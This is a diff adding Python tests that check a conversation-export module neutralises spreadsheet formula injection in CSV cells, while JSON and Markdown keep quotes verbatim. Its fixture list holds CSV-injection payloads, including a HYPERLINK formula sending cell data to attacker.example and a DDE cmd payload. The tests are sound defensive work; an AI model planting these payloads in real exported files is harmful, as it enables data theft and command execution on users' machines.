@@ -182,3 +182,48 @@ def test_empty_conversation_exports_are_valid(tmp_path):
     assert list(csv.reader(io.StringIO(to_csv(empty)))) == [CSV_COLUMNS]
     assert balanced(to_bibtex(empty)) and "@" not in to_bibtex(empty).split("\n\n", 1)[1]
     assert to_markdown(empty).startswith("# Conversation\n")
+
+
+# ----------------------------------------------------------------------------- formula cells (fast)
+
+FORMULAS = ['=HYPERLINK("http://attacker.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(A1:A9)", "\tTAB=1", "\rCR=1"]
+
+
+def formula_conversation() -> Conversation:
+    """A stored-looking conversation whose question and quotes start like formulas."""
+    from assistant.conversations import StoredTurn
+    from assistant.records import Answer, Citation, DocumentRef
+
+    ref = DocumentRef(id="ley", title="=Ley", file="ley.md", kind="law", language="es")
+    citations = [Citation(n=i, quote=q, chunk_id="ley:0", start=i, end=i + len(q), score=1.0,
+                          section="@Capítulo", article=None, page=None, document=ref)
+                 for i, q in enumerate(FORMULAS, 1)]
+    answer = Answer(question="=1+1", answer="…", refused=False, citations=citations)
+    turn = StoredTurn(n=1, question="=1+1", answer=answer, created="2026-01-01T00:00:00+00:00")
+    return Conversation(id="0" * 32, title="=1+1", created=turn.created, updated=turn.created, turns=[turn])
+
+
+def test_csv_cells_cannot_start_a_formula():
+    """The issue: a question or quote starting with = + - @ or a tab became a live formula."""
+    rows = list(csv.DictReader(io.StringIO(to_csv(formula_conversation(), "https://mgi.example.org"))))
+    assert len(rows) == len(FORMULAS)
+    for row, formula in zip(rows, FORMULAS):
+        assert row["quote"] == "'" + formula  # neutralised (OWASP): shown as text
+        assert row["question"] == "'=1+1" and row["document_title"] == "'=Ley" and row["section"] == "'@Capítulo"
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+    assert rows[0]["start"] == "1"  # numbers stay numbers
+
+
+def test_json_and_markdown_keep_the_quote_verbatim():
+    import json
+
+    from assistant.serve.exports import to_json
+
+    conversation = formula_conversation()
+    data = json.loads(to_json(conversation, "https://mgi.example.org"))
+    assert [p["quote"] for p in data["passages"]] == FORMULAS
+    assert data["passages"][0]["source_viewer"].startswith("https://mgi.example.org/documents/ley?")
+    markdown = to_markdown(conversation)
+    assert '=HYPERLINK("http://attacker.example/?d="&A1,"click")' in markdown
